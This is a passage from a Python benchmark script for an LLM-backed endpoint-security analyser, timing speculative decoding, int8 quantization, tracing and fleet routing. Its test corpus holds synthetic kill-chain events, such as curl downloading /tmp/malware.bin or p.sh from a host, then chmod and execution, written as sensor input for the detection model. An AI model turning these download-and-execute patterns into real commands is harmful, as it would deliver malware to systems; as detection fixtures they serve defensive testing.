    All prompts are submitted up front and run CONCURRENTLY across 4
    batch slots: spec v2 verifies every active slot's draft window in
    one fused dispatch, so the serving-shaped batch is exactly what the
    batched verify exists to amortize.  The headline is WALL CLOCK —
    spec_wall_speedup = wall_off / wall_on, gated at >= 1.0 by
    --strict-perf — because tokens-per-step overstates wins: a wide
    verify that accepts little burns more device time per token than
    plain decode.  Outputs must be byte-identical (greedy acceptance
    here; stochastic exactness is a distribution property, tested in
    tests/test_spec.py, not benchable by string compare)."""
    from chronos_trn.config import CacheConfig, EngineConfig
    from chronos_trn.serving.engine import InferenceEngine
    from chronos_trn.serving.scheduler import GenOptions, Scheduler
    from chronos_trn.tokenizer.bpe import ByteTokenizer
    from chronos_trn.utils.metrics import GLOBAL as METRICS

    preamble = "chronos analyst: assess the following sensor chain. "
    prompts = [
        preamble
        + "".join(
            f"event {e}: pid {4200 + s} exec /usr/bin/stage{s} -> flag "
            for e in range(3)
        )
        for s in range(n_sensors)
    ]
    draft_len_max = 12
    tree_width = 2

    class _CountingEngine:
        """Counts device dispatches (decode steps + verify rounds) so
        tokens/step needs no scheduler instrumentation.  spec_commit is
        deliberately NOT counted: it rides the verify round's critical
        path as a second small scatter, and wall clock already prices
        it."""

        def __init__(self, inner):
            self.inner = inner
            self.dispatches = 0

        def __getattr__(self, name):
            return getattr(self.inner, name)

        def decode(self, feed):
            self.dispatches += 1
            return self.inner.decode(feed)

        def spec_verify(self, windows):
            self.dispatches += 1
            return self.inner.spec_verify(windows)

    def run(spec_on: bool):
        # 512-token context: the ~190-byte prompt + the full max_new
        # tail must fit, or admission clips the generation before the
        # self-similar cycle (what the n-gram proposer predicts) settles
        ccfg = CacheConfig(page_size=16, num_pages=160,
                           max_pages_per_seq=32)
        ecfg = EngineConfig(
            max_batch_slots=4, prefill_buckets=(32, 64, 128),
            fused_decode=False, prefix_cache=False,
            spec_decode=spec_on, spec_draft_len=4,
            spec_draft_len_max=draft_len_max,
            spec_acceptance="greedy", spec_tree_width=tree_width,
        )
        eng = _CountingEngine(InferenceEngine(params, mcfg, ccfg, ecfg))
        sched = Scheduler(eng, ByteTokenizer(vocab_size=mcfg.vocab_size), ecfg)
        sched.start()
        try:
            sched.warmup()
            # untimed full pass first: the adaptive draft length walks
            # the verify-width buckets (5 -> 9 -> 13 and the clipped
            # tail), and each bucket JIT-compiles a verify + commit
            # kernel pair on first use.  The off arm compiles one decode
            # shape; timing pass one would charge speculation ~10
            # compiles and measure the compiler, not the serving path.
            # Steady-state wall is the figure of merit, same methodology
            # as the fused-decode section's explicit warmup above.
            warm = [sched.submit(p, GenOptions(max_new_tokens=max_new))
                    for p in prompts]
            for r in warm:
                r.result(timeout=600.0)
            eng.dispatches = 0  # warmup compiles/steps don't count
            before = METRICS.snapshot()
            t0 = time.time()
            # all in flight at once: the batch the fused verify amortizes
            reqs = [sched.submit(p, GenOptions(max_new_tokens=max_new))
                    for p in prompts]
            texts = [r.result(timeout=600.0) for r in reqs]
            wall = time.time() - t0
            sampled = sum(r.eval_count for r in reqs)
        finally:
            sched.stop()
        after = METRICS.snapshot()
        d = {k: after.get(k, 0.0) - before.get(k, 0.0)
             for k in after if str(k).startswith("spec_")}
        # gauges don't delta: last-set value is the figure of merit
        d["spec_batch_verify_width"] = after.get(
            "spec_batch_verify_width", 0.0)
        return texts, sampled, eng.dispatches, wall, d

    texts_off, sampled_off, disp_off, wall_off, _ = run(False)
    texts_on, sampled_on, disp_on, wall_on, d_on = run(True)
    drafted = d_on.get("spec_drafted_tokens_total", 0.0)
    accepted = d_on.get("spec_accepted_tokens_total", 0.0)
    rows = {
        # headline: did speculation pay for its wider forwards?
        "spec_wall_speedup": round(wall_off / max(wall_on, 1e-9), 4),
        "spec_on_wall_s": round(wall_on, 4),
        "spec_off_wall_s": round(wall_off, 4),
        "spec_on_tokens_per_step": round(sampled_on / max(1, disp_on), 3),
        "spec_off_tokens_per_step": round(sampled_off / max(1, disp_off), 3),
        "spec_accept_rate": round(accepted / max(1.0, drafted), 4),
        "spec_drafted_tokens": int(drafted),
        "spec_accepted_tokens": int(accepted),
        "spec_outputs_match": texts_on == texts_off,
        "spec_batch_verify_width": round(
            d_on.get("spec_batch_verify_width", 0.0), 2),
        # methodology: what was measured — concurrent greedy generations
        # across 4 slots (batched fused verify, deferred commit), paged
        # layout per-step path (the path speculation serves), adaptive
        # draft length 4..12, grammar tree drafts width 2, full-text
        # equality as the identity probe
        "spec_mode": "batched_v2",
        "spec_acceptance": "greedy",
        "spec_tree_width": tree_width,
        "spec_draft_len_max": draft_len_max,
        "spec_layout": "paged",
        "spec_n_sensors": n_sensors,
        "spec_max_new_tokens": max_new,
        "spec_draft_len": "4..12 adaptive",
    }
    # per-proposer acceptance, when both proposers drafted this run
    for prop in ("ngram", "grammar"):
        dk = f'spec_drafted_tokens_total{{proposer="{prop}"}}'
        ak = f'spec_accepted_tokens_total{{proposer="{prop}"}}'
        if d_on.get(dk, 0.0) > 0:
            rows[f"spec_accept_rate_{prop}"] = round(
                d_on.get(ak, 0.0) / d_on[dk], 4)
    return rows


# --------------------------------------------------------------------------
# Weight-only int8 quantization A/B (ISSUE 7 acceptance)
# --------------------------------------------------------------------------
QUANT_CHAIN_CORPUS = [
    # the fixed chain corpus: the BASELINE dropper kill chain plus
    # benign-ish operational chains, phrased as the sensor's verdict
    # prompts.  Deterministic strings -> deterministic token streams.
    ["[EXEC] bash -> ./attack_chain.sh",
     "[EXEC] bash -> /usr/bin/curl",
     "[OPEN] curl -> /tmp/malware.bin",
     "[EXEC] bash -> /usr/bin/chmod",
     "[OPEN] chmod -> /tmp/malware.bin",
     "[EXEC] bash -> /usr/bin/cat"],
    ["[EXEC] sshd -> /usr/sbin/sshd",
     "[OPEN] sshd -> /etc/ssh/sshd_config"],
    ["[EXEC] cron -> /usr/sbin/cron",
     "[OPEN] logrotate -> /var/log/syslog"],
    ["[EXEC] bash -> /usr/bin/curl",
     "[OPEN] curl -> /tmp/stage2.elf",
     "[EXEC] bash -> /tmp/stage2.elf"],
    ["[EXEC] systemd -> /usr/bin/ls",
     "[OPEN] ls -> /home/user"],
    ["[EXEC] bash -> /usr/bin/grep",
     "[OPEN] grep -> /var/log/auth.log"],
    ["[EXEC] python3 -> /usr/bin/python3",
     "[OPEN] python3 -> /tmp/exfil.py",
     "[EXEC] python3 -> /usr/bin/tar"],
    ["[EXEC] dbus-daemon -> /var/run/dbus/system_bus_socket",
     "[OPEN] sed -> /etc/hosts"],
]


def _greedy_generate_fused(engine, ids, seq_id: int, max_new: int):
    """Free-running greedy generation through the fused path; returns
    the sampled token list (length <= max_new)."""
    slot = engine.free_slot()
    engine.occupy(slot, seq_id)
    try:
        logits = engine.prefill_seq(seq_id, ids)
        toks = [int(np.argmax(logits))]
        while len(toks) < max_new:
            out, done, _ = engine.decode_fused(
                {slot: toks[-1]}, {slot: (0.0, 1.0, 0, max_new - len(toks))}
            )
            got = [int(t) for t in out[slot]]
            toks.extend(got)
            if done[slot] or not got:
                break
    finally:
        engine.release(seq_id)
    return toks[:max_new]


def _teacher_forced_argmax(engine, ids, stream, seq_id: int):
    """Per-position greedy top-1 under teacher forcing: prefill `ids`,
    then feed the REFERENCE stream token by token, recording this
    engine's argmax at every position.  preds[i] is this model's pick
    for the position where the reference emitted stream[i] — identical
    prefixes by construction, so disagreement counts don't compound."""
    slot = engine.free_slot()
    engine.occupy(slot, seq_id)
    preds = []
    try:
        logits = engine.prefill_seq(seq_id, ids)
        preds.append(int(np.argmax(logits)))
        for tok in stream[:-1]:
            res = engine.decode({slot: int(tok)})
            preds.append(int(res[slot][1][0]))  # top-K ids, descending
    finally:
        engine.release(seq_id)
    return preds


def _parse_verdict_fields(text: str):
    """(risk_score, verdict) as the sensor's monitor would read them —
    strict JSON first, then the fields regex-extracted from partial
    output, else (None, None).  Quant parity compares these tuples."""
    import re

    try:
        obj = json.loads(text.strip())
        if isinstance(obj, dict):
            return obj.get("risk_score"), obj.get("verdict")
    except ValueError:
        pass
    m = re.search(r'"risk_score"\s*:\s*(-?\d+)', text)
    risk = int(m.group(1)) if m else None
    m = re.search(r'"verdict"\s*:\s*"([A-Za-z]+)"', text)
    return risk, (m.group(1) if m else None)


def bench_quant_ab(q_engine, config_name: str, batch: int, chunk: int,
                   steps: int, max_new: int = 32):
    """int8-vs-bf16 A/B (ISSUE 7 acceptance): build the bf16 twin of the
    quantized headline engine — same deterministic weights, pre-quant —
    measure its fused decode, and score the quantized model against it
    on the fixed chain corpus:

      * greedy top-1 agreement, TEACHER-FORCED: both models walk the
        bf16 model's greedy stream, so position i compares argmaxes
        under identical prefixes (free-running comparison would count
        every post-divergence token as a miss);
      * verdict parity: each model free-runs its own completion and the
        (risk_score, verdict) fields the sensor actually consumes are
        parsed from both — the quantized model may phrase differently,
        it must not flip verdicts.
    """
    from chronos_trn.sensor.client import build_verdict_prompt
    from chronos_trn.tokenizer.bpe import ByteTokenizer

    bf_engine, cfg, ccfg, _, _ = build_engine(config_name, batch, chunk,
                                              quant_mode="none")
    bf = bench_decode_fused(bf_engine, steps)

    tok = ByteTokenizer(vocab_size=cfg.vocab_size)
    ctx = ccfg.max_context
    prompt_cap = max(8, min(ctx // 2, ctx - max_new - 2))
    max_new = max(4, min(max_new, ctx - prompt_cap - 2))
    prompts = [
        tok.encode(build_verdict_prompt(chain))[:prompt_cap]
        for chain in QUANT_CHAIN_CORPUS
    ]

    positions = agree = 0
    parity_rows = []
    for i, ids in enumerate(prompts):
        ref = _greedy_generate_fused(bf_engine, ids, 7000 + i, max_new)
        qtf = _teacher_forced_argmax(q_engine, ids, ref, 7100 + i)
        n = min(len(ref), len(qtf))
        positions += n
        agree += sum(1 for a, b in zip(ref[:n], qtf[:n]) if a == b)
        qfree = _greedy_generate_fused(q_engine, ids, 7200 + i, max_new)
        parity_rows.append(
            _parse_verdict_fields(tok.decode(ref))
            == _parse_verdict_fields(tok.decode(qfree))
        )
    agreement = agree / max(1, positions)
    parity = sum(parity_rows) / max(1, len(parity_rows))

    import jax

    bf_bytes = sum(int(np.prod(t.shape)) * t.dtype.itemsize
                   for t in jax.tree.leaves(bf_engine.params))
    q_bytes = sum(int(np.prod(t.shape)) * t.dtype.itemsize
                  for t in jax.tree.leaves(q_engine.params))
    return {
        "quant_mode": "int8",
        "quant_bf16_tokens_per_s": round(bf["decode_tokens_per_s"], 2),
        "quant_bf16_ms_per_step": round(bf["ms_per_step"], 3),
        "quant_param_bytes": q_bytes,
        "quant_bf16_param_bytes": bf_bytes,
        "quant_bytes_ratio": round(q_bytes / max(1, bf_bytes), 4),
        "quant_top1_agreement": round(agreement, 4),
        "quant_agreement_positions": positions,
        "quant_verdict_parity": round(parity, 4),
        "quant_verdict_chains": len(parity_rows),
        # methodology: teacher-forced agreement over the bf16 greedy
        # stream (identical prefixes per position); parity over
        # free-running completions' parsed (risk_score, verdict); both
        # models share bit-identical pre-quant weights (fast_init is
        # deterministic); corpus = fixed kill/benign chain prompts
        "quant_corpus": "fixed-chains",
        "quant_max_new_tokens": max_new,
        "quant_agreement_mode": "teacher-forced",
    }


def bench_trace_overhead(engine, steps: int, repeats: int = 3):
    """``--trace`` (ISSUE PR4 acceptance): A/B the fused decode loop with
    span recording OFF vs ON (the scheduler's per-traced-slot
    ``sched.decode_step`` records, the only tracing cost on the decode
    hot path) and report per-stage p50/p99 from everything the run
    traced.  Best-of-N tok/s on each side damps scheduler noise; the
    acceptance bar is tracing-on within 5% of tracing-off.

    Also drives ~24 verdicts through the REAL wire path (HTTP server +
    AnalysisClient, heuristic analyst — no compile) so the breakdown
    table shows the full stage vocabulary (sensor.analyze, sensor.post,
    server.generate, heuristic.score, ...), not just decode steps."""
    from chronos_trn.utils import trace as trace_lib

    tracer = trace_lib.GLOBAL
    was_enabled = tracer.enabled
    spans_before = len(tracer)
    try:
        tracer.enabled = False
        off = max(bench_decode_fused(engine, steps)["decode_tokens_per_s"]
                  for _ in range(repeats))
        tracer.enabled = True
        on = max(bench_decode_fused(engine, steps,
                                    tracer=tracer)["decode_tokens_per_s"]
                 for _ in range(repeats))
    finally:
        tracer.enabled = was_enabled

    # full-pipeline stage vocabulary via the wire (heuristic: no model)
    from chronos_trn.config import SensorConfig, ServerConfig
    from chronos_trn.sensor.client import AnalysisClient
    from chronos_trn.serving.backends import HeuristicBackend
    from chronos_trn.serving.server import ChronosServer

    tracer.enabled = True
    server = ChronosServer(HeuristicBackend(),
                           ServerConfig(host="127.0.0.1", port=0))
    server.start()
    try:
        client = AnalysisClient(SensorConfig(
            server_url=f"http://127.0.0.1:{server.port}/api/generate"))
        chain = ["[EXEC] bash -> curl http://x/p.sh",
                 "[EXEC] bash -> chmod +x /tmp/p.sh",
                 "[OPEN] cat -> /tmp/p.sh"]
        for _ in range(24):
            client.analyze(chain)
    finally:
        server.stop()
        tracer.enabled = was_enabled

    overhead = 1.0 - on / off if off > 0 else 0.0
    within = on >= 0.95 * off
    breakdown = trace_lib.stage_breakdown(tracer.spans())
    log("[bench] per-stage latency breakdown (traced spans):")
    for line in trace_lib.render_breakdown(breakdown).splitlines():
        log("[bench]   " + line)
    log(f"[bench] tracing overhead: off={off:.2f} on={on:.2f} tok/s "
        f"({overhead:+.2%}) within_5pct={within}")
    if not within:
        log("[bench] WARNING: tracing overhead exceeds the 5% budget")
    return {
        "trace_off_tokens_per_s": round(off, 2),
        "trace_on_tokens_per_s": round(on, 2),
        "trace_overhead_frac": round(max(0.0, overhead), 4),
        "trace_within_5pct": within,
        "trace_spans_recorded": len(tracer) - spans_before,
        "trace_stage_breakdown": {
            name: {k: round(v, 3) for k, v in row.items()}
            for name, row in breakdown.items()
        },
        "trace_repeats_best_of": repeats,
    }


def bench_profile_overhead(engine, steps: int, repeats: int = 3,
                           sample_every: int = 64):
    """``--profile`` (ISSUE 19 acceptance): A/B the fused decode loop
    with the step profiler OFF (sample_every=0, zero fences) vs ON at
    the default 1/64 cadence.  Best-of-N tok/s each side; the
    acceptance bar is profiling-on within 5% of profiling-off.  Also
    joins the per-op roofline table (obs/perf.py) into the detail rows
    so bench_detail.json carries per-op measured/roofline/device_frac
    columns — the measured tuning queue KERNELS.md round 3 reads."""
    from chronos_trn.obs import perf as perf_lib

    profiler = perf_lib.PROFILER
    was = profiler.sample_every
    try:
        profiler.set_sample(0)
        off = max(bench_decode_fused(engine, steps)["decode_tokens_per_s"]
                  for _ in range(repeats))
        profiler.set_sample(sample_every)
        profiler.reset()
        on = max(bench_decode_fused(engine, steps)["decode_tokens_per_s"]
                 for _ in range(repeats))
        snap = profiler.snapshot()
    finally:
        profiler.set_sample(was)

    overhead = 1.0 - on / off if off > 0 else 0.0
    within = on >= 0.95 * off
    samples = sum(row.get("samples", 0)
                  for row in snap["phases"].values())
    log(f"[bench] profiler overhead: off={off:.2f} on={on:.2f} tok/s "
        f"({overhead:+.2%}) within_5pct={within} "
        f"samples={samples} @1/{sample_every}")
    if not within:
        log("[bench] WARNING: sampled-profiler overhead exceeds the "
            "5% budget")

    # per-op achieved-vs-roofline columns (device_frac marks cpu-twin
    # rows: 0.0 = XLA proxy measurement, 1.0 = BASS on the NeuronCore)
    table = perf_lib.op_roofline_table(engine)
    log("[bench] per-op roofline attribution:")
    for line in perf_lib.render_op_table(table).splitlines():
        log("[bench]   " + line)
    perf_ops = {
        r["op"]: {
            k: r[k] for k in ("roofline_frac", "measured_s", "roofline_s",
                              "bound", "device_frac", "bass_eligible")
            if k in r
        }
        for r in table["ops"]
    }
    return {
        "profile_off_tokens_per_s": round(off, 2),
        "profile_on_tokens_per_s": round(on, 2),
        "profile_overhead_frac": round(max(0.0, overhead), 4),
        "profile_within_5pct": within,
        "profile_sample": sample_every,
        "profile_samples_taken": samples,
        "profile_phase_split": snap["phases"],
        "perf_ops": perf_ops,
        "profile_repeats_best_of": repeats,
    }


# --------------------------------------------------------------------------
# Fleet router benches (ISSUE 8 acceptance)
# --------------------------------------------------------------------------
def bench_fleet_heuristic(n_sensors: int = 1000, depth: int = 3,
                          n_replicas: int = 2, workers: int = 16):
    """Fleet wire scenario: ``n_sensors`` simulated sensors, each with a
    distinct growing kill chain, firing concurrently at a FleetRouter
    over ``n_replicas`` in-process heuristic replicas.  Reports the
    aggregate verdict rate, p50/p99 time-to-first-verdict, and the
    affinity hit-rate (fraction of routed requests served by the
    chain's home replica — the router's whole reason to exist)."""
    from concurrent.futures import ThreadPoolExecutor

    from chronos_trn.config import FleetConfig, ServerConfig
    from chronos_trn.fleet.pool import ReplicaPool
    from chronos_trn.fleet.router import FleetRouter
    from chronos_trn.sensor.client import build_verdict_prompt
    from chronos_trn.sensor.resilience import UrllibTransport

    fcfg = FleetConfig(probe_interval_s=0.0)
    pool = ReplicaPool.heuristic(n_replicas).start()
    router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    url = f"http://127.0.0.1:{router.port}/api/generate"
    # distinct argv per sensor: the chain key hashes the first event
    # line, so distinct lines = distinct chains spread over the ring
    chains = [
        [f"[EXEC] bash -> /usr/bin/curl -o /tmp/s{i}.bin",
         f"[EXEC] bash -> /usr/bin/chmod +x /tmp/s{i}.bin",
         f"[EXEC] bash -> /tmp/s{i}.bin",
         f"[OPEN] cat -> /tmp/s{i}.bin"][:depth]
        for i in range(n_sensors)
    ]
    ttfv = [None] * n_sensors
    n_ok = [0]
    count_lock = threading.Lock()

    def drive(i):
        t = UrllibTransport()
        for d in range(1, depth + 1):
            payload = {"model": "llama3",
                       "prompt": build_verdict_prompt(chains[i][:d]),
                       "stream": False, "format": "json"}
            t0 = time.time()
            status, _, _body = t.post_json(url, payload, 30.0)
            if d == 1:
                ttfv[i] = time.time() - t0
            if status == 200:
                with count_lock:
                    n_ok[0] += 1

    try:
        t0 = time.time()
        with ThreadPoolExecutor(max_workers=workers) as ex:
            list(ex.map(drive, range(n_sensors)))
        wall = time.time() - t0
        counts = router.routed_counts()
        total = sum(counts.values())
        affin = sum(n for (_b, r), n in counts.items() if r == "affinity")
        st = router.status()
        lats = [x for x in ttfv if x is not None]
        per_replica = {}
        for (b, _r), n in counts.items():
            per_replica[b] = per_replica.get(b, 0) + n
        return {
            "fleet_n_sensors": n_sensors,
            "fleet_chain_depth": depth,
            "fleet_n_replicas": n_replicas,
            "fleet_requests": total,
            "fleet_verdicts_ok": n_ok[0],
            "fleet_verdicts_per_s": round(n_ok[0] / wall, 2),
            "fleet_wall_s": round(wall, 3),
            "fleet_p50_ttfv_s": round(float(np.percentile(lats, 50)), 5)
            if lats else None,
            "fleet_p99_ttfv_s": round(float(np.percentile(lats, 99)), 5)
            if lats else None,
            "fleet_affinity_hit_rate": round(affin / max(1, total), 4),
            "fleet_spillovers": st["spillovers"],
            "fleet_unrouteable": st["unrouteable"],
            "fleet_per_replica_requests": per_replica,
            # methodology: concurrent client threads over real loopback
            # HTTP (router + replica servers), heuristic analyst (no
            # model: the wire + routing cost IS the measurement), each
            # sensor posts its growing chain depth times so the expected
            # affinity hit-rate is (depth-1)/depth
            "fleet_backend": "heuristic",
            "fleet_client_workers": workers,
        }
    finally:
        router.stop()
        pool.stop()


class _PrefixCacheAttributor:
    """Delegating engine proxy: attributes the process-global prefix
    cache counters to a named replica by snapshotting around each
    prefill.  Valid because the fleet bench drives requests one at a
    time — deltas never interleave across replicas."""

    def __init__(self, name, inner, counters):
        self._name = name
        self._inner = inner
        self._counters = counters
        counters.setdefault(name, {"hit": 0, "miss": 0})

    def __getattr__(self, attr):
        return getattr(self._inner, attr)

    def prefill_seq(self, seq_id, ids):
        from chronos_trn.utils.metrics import GLOBAL as METRICS

        before = METRICS.snapshot()
        out = self._inner.prefill_seq(seq_id, ids)
        after = METRICS.snapshot()
        c = self._counters[self._name]
        for field, key in (("hit", "prefix_cache_hit_tokens"),
                           ("miss", "prefix_cache_miss_tokens")):
            c[field] += int(after.get(key, 0) - before.get(key, 0))
        return out


def bench_fleet_model(params, mcfg, n_sensors: int = 8, depth: int = 4,
                      max_new: int = 16):
    """Fleet cache-parity A/B (the acceptance criterion): the
    shared-prefix chain corpus through (a) a 2-replica fleet behind the
    router with session affinity and (b) a routing-free single model
    replica.  Affinity must keep the fleet's prefix-cache hit-rate
    within 10% of the single replica's (chains keep landing where their
    KV lives), and the verdict bytes must be identical — routing changes
    WHERE, never WHAT."""
    from chronos_trn.config import (
        CacheConfig,
        EngineConfig,
        FleetConfig,
        ServerConfig,
    )
    from chronos_trn.fleet.pool import ReplicaPool
    from chronos_trn.fleet.router import FleetRouter
    from chronos_trn.sensor.resilience import UrllibTransport

    ccfg = CacheConfig(page_size=16, num_pages=256, max_pages_per_seq=16)
    ecfg = EngineConfig(
        max_batch_slots=2, prefill_buckets=(64, 128, 256),
        fused_decode=False, prefix_cache=True, prefix_cache_pages=128,
    )
    # the real verdict-prompt shape in miniature: a shared preamble, the
    # "Event chain:" marker (what chain_key anchors on — without it
    # every growing prompt hashes to a NEW chain and affinity never
    # engages), then numbered per-sensor events
    preamble = "chronos analyst: assess this endpoint chain.\nEvent chain:\n"
    chains = [
        [f"{e + 1}. ev{e}: pid {5000 + s} exec /usr/bin/stage{s}_{e}"
         for e in range(depth)]
        for s in range(n_sensors)
    ]
    # depth-major interleave: every sensor's event d arrives before any
    # sensor's event d+1, the adversarial order for affinity (a chain
    # never gets two consecutive requests)
    stream = [
        (s, preamble + "\n".join(chains[s][:d]))
        for d in range(1, depth + 1)
        for s in range(n_sensors)
    ]
    counters = {}

    def wrap(name, engine):
        return _PrefixCacheAttributor(name, engine, counters)

    def run(n_replicas, routed: bool):
        counters.clear()
        pool = ReplicaPool.model(
            n_replicas, params, mcfg, ccfg, ecfg, engine_wrap=wrap,
        ).start()
        pool.warmup()
        router = None
        if routed:
            fcfg = FleetConfig(probe_interval_s=0.0)
            router = FleetRouter(
                pool.remote_backends(fcfg), fleet_cfg=fcfg,
                server_cfg=ServerConfig(host="127.0.0.1", port=0),
            ).start()
            url = f"http://127.0.0.1:{router.port}/api/generate"
        else:
            url = pool[0].url + "/api/generate"
        t = UrllibTransport()
        outs = []
        try:
            t0 = time.time()
            for _s, p in stream:
                payload = {"model": "llama3", "prompt": p, "stream": False,
                           "options": {"num_predict": max_new,
                                       "temperature": 0.0}}
                status, _, body = t.post_json(url, payload, 120.0)
                assert status == 200, f"fleet model request failed: {status}"
                outs.append(json.loads(body.decode())["response"])
            wall = time.time() - t0
            routed_counts = router.routed_counts() if router else {}
            return outs, wall, {k: dict(v) for k, v in counters.items()}, \
                routed_counts
        finally:
            if router is not None:
                router.stop()
            pool.stop()

    def hit_rate(per_replica):
        hit = sum(c["hit"] for c in per_replica.values())
        total = hit + sum(c["miss"] for c in per_replica.values())
        return hit / max(1, total)

    single_outs, single_wall, single_ctr, _ = run(1, routed=False)
    fleet_outs, fleet_wall, fleet_ctr, fleet_counts = run(2, routed=True)
    single_rate = hit_rate(single_ctr)
    fleet_rate = hit_rate(fleet_ctr)
    affin = sum(n for (_b, r), n in fleet_counts.items() if r == "affinity")
    total_routed = sum(fleet_counts.values())
    return {
        "fleetmodel_n_sensors": n_sensors,
        "fleetmodel_chain_depth": depth,
        "fleetmodel_requests": len(stream),
        "fleetmodel_single_hit_rate": round(single_rate, 4),
        "fleetmodel_fleet_hit_rate": round(fleet_rate, 4),
        "fleetmodel_hit_rate_within_10pct": fleet_rate >= 0.9 * single_rate,
        "fleetmodel_per_replica_prefix_cache": fleet_ctr,
        "fleetmodel_affinity_hit_rate": round(
            affin / max(1, total_routed), 4),
        "fleetmodel_outputs_match": fleet_outs == single_outs,
        "fleetmodel_single_wall_s": round(single_wall, 3),
        "fleetmodel_fleet_wall_s": round(fleet_wall, 3),
        # methodology: sequential greedy requests over real loopback
        # HTTP, depth-major interleave (the no-affinity worst case),
        # per-replica engines with PRIVATE prefix caches (pool.model),
        # hit/miss attributed per replica by snapshot deltas around each
        # prefill; identity probe = full response byte-equality vs a
        # routing-free single replica on the same weights
        "fleetmodel_layout": "paged",
        "fleetmodel_max_new_tokens": max_new,
    }


def bench_overload(n_sensors: int = 120, depth: int = 3,
                   n_replicas: int = 3, workers: int = 24,
                   slow_latency_s: float = 0.25,
                   hedge_delay_s: float = 0.03):
    """Overload + gray-failure scenario (PR 10): oversubscribed sensors
    against a fleet with ONE slow (gray) replica, A/B'd with hedged
    requests on vs off.  The slow replica answers correctly — its
    breaker stays closed, so roughly 1/``n_replicas`` of chains are
    homed on a replica that drags every one of their verdicts — exactly
    the tail shape Dean & Barroso's hedging exists for.  Reports p99
    TTFV for both arms, the hedge speedup, the degraded-verdict
    fraction, and the lost-chain count (must be 0 in both arms)."""
    from concurrent.futures import ThreadPoolExecutor

    from chronos_trn.config import FleetConfig, ServerConfig
    from chronos_trn.fleet.pool import ReplicaPool
    from chronos_trn.fleet.router import FleetRouter
    from chronos_trn.sensor.client import build_verdict_prompt
    from chronos_trn.sensor.resilience import UrllibTransport
    from chronos_trn.testing.chaos import ChaosTransport
    from chronos_trn.utils.metrics import GLOBAL as METRICS

    def run(hedge: bool):
        fcfg = FleetConfig(
            probe_interval_s=0.0,
            hedge_enabled=hedge,
            hedge_delay_floor_s=hedge_delay_s,
            # gray ejection OFF for the A/B: probation would route the
            # slow replica out of BOTH arms in seconds and the hedge
            # would have nothing left to cover (ejection has its own
            # drills in tests/test_chaos.py)
            eject_min_samples=10 ** 9,
            request_timeout_s=30.0,
            # provision the retry budget for the scenario: ~1/n of all
            # serves are slow and every one needs a hedge, so the
            # default (16 + 0.1/success) runs dry mid-run and the
            # un-hedged remainder parks the p99 right back at the
            # injected latency (budget-exhaustion behavior has its own
            # drill in tests/test_chaos.py)
            retry_budget_initial=float(2 * n_sensors * depth),
            retry_budget_ratio=0.5,
        )
        pool = ReplicaPool.heuristic(n_replicas).start()
        backends = pool.remote_backends(fcfg)
        slow = ChaosTransport()
        slow.set_latency(slow_latency_s)
        backends[0].transport = slow  # r0 is the gray replica
        router = FleetRouter(
            backends, fleet_cfg=fcfg,
            server_cfg=ServerConfig(host="127.0.0.1", port=0),
        ).start()
        if hedge:
            # pin the adaptive delay at the floor: with 1/n of all
            # routes slow, the process-global route p95 converges to
            # the injected latency itself and would push the trigger
            # past the very tail it should cover (the adaptive path is
            # exercised in tests/test_chaos.py)
            router.hedge_delay = lambda: hedge_delay_s
        url = f"http://127.0.0.1:{router.port}/api/generate"
        chains = [
            [f"[EXEC] bash -> /usr/bin/curl -o /tmp/o{i}.bin",
             f"[EXEC] bash -> /usr/bin/chmod +x /tmp/o{i}.bin",
             f"[EXEC] bash -> /tmp/o{i}.bin"][:depth]
            for i in range(n_sensors)
        ]
        ttfv = []
        lock = threading.Lock()
        n_ok = [0]
        n_degraded = [0]
        n_failed = [0]

        def drive(i):
            t = UrllibTransport()
            for d in range(1, depth + 1):
                payload = {"model": "llama3",
                           "prompt": build_verdict_prompt(chains[i][:d]),
                           "stream": False, "format": "json"}
                t0 = time.time()
                try:
                    status, _, body = t.post_json(url, payload, 30.0)
                except Exception:
                    status, body = 0, b"{}"
                dt = time.time() - t0
                with lock:
                    ttfv.append(dt)
                    if status == 200:
                        n_ok[0] += 1
                        try:
                            if json.loads(body.decode()).get("degraded"):
                                n_degraded[0] += 1
                        except Exception:
                            pass
                    else:
                        n_failed[0] += 1

        snap0 = METRICS.snapshot()
        try:
            t0 = time.time()
            with ThreadPoolExecutor(max_workers=workers) as ex:
                list(ex.map(drive, range(n_sensors)))
            wall = time.time() - t0
            counts = router.routed_counts()
            snap = METRICS.snapshot()
        finally:
            router.stop()
            pool.stop()
        affin = sum(n for (_b, r), n in counts.items() if r == "affinity")
        hedged_serves = sum(n for (_b, r), n in counts.items()
                            if r == "hedge")
        placed = sum(counts.values()) - hedged_serves
        return {
            "wall_s": wall,
            "ok": n_ok[0], "degraded": n_degraded[0], "failed": n_failed[0],
            "p50": float(np.percentile(ttfv, 50)),
            "p99": float(np.percentile(ttfv, 99)),
            # placement-stable hit rate: hedge-won serves are excluded
            # from the denominator — a hedge covers one slow answer
            # without re-homing the chain, so its serve is a tail cover,
            # not a placement decision
            "affinity_rate": affin / max(1, placed),
            "hedges_fired": snap.get("router_hedges_fired_total", 0.0)
            - snap0.get("router_hedges_fired_total", 0.0),
            "hedges_won": snap.get("router_hedges_won_total", 0.0)
            - snap0.get("router_hedges_won_total", 0.0),
        }

    unhedged = run(hedge=False)
    hedged = run(hedge=True)
    return {
        "overload_n_sensors": n_sensors,
        "overload_chain_depth": depth,
        "overload_n_replicas": n_replicas,
        "overload_client_workers": workers,
        "overload_slow_replica_latency_s": slow_latency_s,
        "overload_hedge_delay_s": hedge_delay_s,
        "overload_p50_ttfv_unhedged_s": round(unhedged["p50"], 5),
        "overload_p99_ttfv_unhedged_s": round(unhedged["p99"], 5),
        "overload_p50_ttfv_hedged_s": round(hedged["p50"], 5),
        "overload_p99_ttfv_hedged_s": round(hedged["p99"], 5),
        "overload_hedge_p99_speedup": round(
            unhedged["p99"] / max(hedged["p99"], 1e-9), 3),
        "overload_hedges_fired": int(hedged["hedges_fired"]),
        "overload_hedges_won": int(hedged["hedges_won"]),
        "overload_degraded_fraction": round(
            (unhedged["degraded"] + hedged["degraded"])
            / max(1, unhedged["ok"] + hedged["ok"]), 4),
        "overload_lost_chains": unhedged["failed"] + hedged["failed"],
        "overload_affinity_rate_unhedged": round(
            unhedged["affinity_rate"], 4),
        "overload_affinity_rate_hedged": round(hedged["affinity_rate"], 4),
        "overload_affinity_within_10pct": (
            hedged["affinity_rate"] >= 0.9 * unhedged["affinity_rate"]),
        # methodology: concurrent client threads over real loopback HTTP,
        # heuristic replicas (wire + routing cost IS the measurement),
